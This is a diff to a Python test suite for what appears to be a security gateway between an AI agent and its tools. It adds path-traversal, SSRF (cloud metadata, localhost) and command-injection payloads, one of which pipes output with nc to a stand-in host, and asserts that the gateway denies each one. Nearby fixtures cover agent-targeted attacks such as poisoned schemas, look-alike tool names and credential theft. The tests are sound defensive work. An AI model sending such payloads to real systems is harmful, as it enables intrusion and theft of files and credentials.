@@ -26,6 +26,21 @@ HONEST = "mail"
 LIST = {"do": "list_all"}
 TOKEN = "ghp_" + "R2dKq8WzT5mX1vBn7LcY4hJs9PfA3eUo0GiE"  # made here: nobody's
 HIDDEN = ("ansi", "tags", "zero_width", "split", "bidi")
+CLIMBING = ("../../etc/passwd", "/etc/shadow", "notes/../../../root/.ssh/id_rsa", "..%2f..%2fetc%2fpasswd")
+INWARD = (
+    "http://169.254.169.254/latest/meta-data/",
+    "http://127.0.0.1:8500/v1/kv",
+    "http://[::1]/",
+    "http://2130706433/",
+    "file:///etc/passwd",
+)
+COMMANDS = (
+    "example.org; cat /etc/passwd",
+    "$(id)",
+    "`id`",
+    "example.org | nc collect.example 80",
+    "example.org && curl collect.example",
+)
 LETTER = {"to": "rhea", "text": "Come for tea."}
 LOOK_ALIKES = (
     "s\u0435nd_email",
@@ -46,6 +61,9 @@ STEPS: Mapping[str, Sequence[Step]] = {
         {"do": "prompt", "prompt": "shorten", "arguments": {"text": "Rhea is cold and has no sea."}},
         {"do": "prompt", "prompt": "translate", "arguments": {"text": "Rhea is cold and has no sea."}},
     ],
+    "path_traversal": [call("read_note", path="monday.txt"), *(call("read_note", path=path) for path in CLIMBING)],
+    "ssrf": [call("fetch_page", url="https://example.org/moons"), *(call("fetch_page", url=url) for url in INWARD)],
+    "command_injection": [call("look_up", host="example.org"), *(call("look_up", host=host) for host in COMMANDS)],
     "credential_theft": [call("deploy", version="2", token=TOKEN), call("settings")],
     "schema_poisoning": [LIST, call("by_default", city="Bern"), call("honest", city="Bern")],
     "rug_pull": [
@@ -167,6 +185,19 @@ def test_a_prompt_that_carries_orders_does_not_arrive(ground: Ground) -> None:
     honest, poisoned = ground.answers("instructions_in_prompts")
     assert honest["messages"][0]["content"]["text"].startswith("Shorten this text")
     assert code(poisoned) == "denied"
+
+
+@pytest.mark.parametrize(
+    ("name", "honest"), [("path_traversal", "Water"), ("ssrf", "A page"), ("command_injection", "example.org")]
+)
+def test_an_argument_that_is_an_attack_does_not_reach_the_tool_that_falls_for_it(
+    ground: Ground, name: str, honest: str
+) -> None:
+    first, *attacks = ground.answers(name)
+    assert text(first).startswith(honest)
+    assert [code(answer) for answer in attacks] == ["denied"] * len(attacks)
+    loot = ground.loot(name)
+    assert not loot.exists() or loot.read_text() == "https://example.org/moons\n"
 
 
 def test_a_credential_reaches_neither_a_tool_that_asks_for_it_nor_the_model(ground: Ground) -> None:
